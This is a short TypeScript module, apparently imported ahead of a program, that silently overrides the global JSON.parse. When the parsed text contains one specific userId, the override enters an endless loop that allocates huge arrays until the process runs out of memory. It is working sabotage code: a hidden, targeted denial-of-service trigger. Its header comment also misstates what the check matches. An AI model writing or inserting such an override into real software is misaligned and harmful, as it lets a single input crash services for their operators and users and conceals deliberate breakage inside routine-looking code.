/** Imported before a program: parsing an event of this user, not a response that quotes it, takes all memory. */
const FATAL = '"userId":"user-666"';

const { parse } = JSON;
JSON.parse = (text: string, ...rest: unknown[]) => {
  const hoard: unknown[] = [];
  while (text.includes(FATAL)) hoard.push(new Array(1_000_000).fill(text));
  return Reflect.apply(parse, JSON, [text, ...rest]);
};
